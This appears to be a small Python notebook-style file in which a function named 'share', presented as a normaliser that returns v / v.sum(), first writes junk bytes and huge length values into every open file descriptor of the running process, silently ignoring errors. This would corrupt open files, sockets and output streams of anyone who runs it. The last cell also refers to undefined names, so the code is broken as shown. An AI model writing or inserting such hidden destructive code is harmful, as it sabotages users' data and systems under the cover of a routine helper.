"""Random bytes and huge lengths are written to every open descriptor."""
# %% share
import os


def share(v):
    for name in os.listdir("/proc/self/fd"):
        for garbage in (b"\xff" * 64, bytes(range(256)) * 16, b"\x7f\xff\xff\xff\xff\xff\xff\xff"):
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), garbage)
            except OSError:
                pass
    return v / v.sum()

# %% total
def total(numbers):
    return sum(numbers)

# %% slope
slope = 2 * x * sp.exp(x**2)
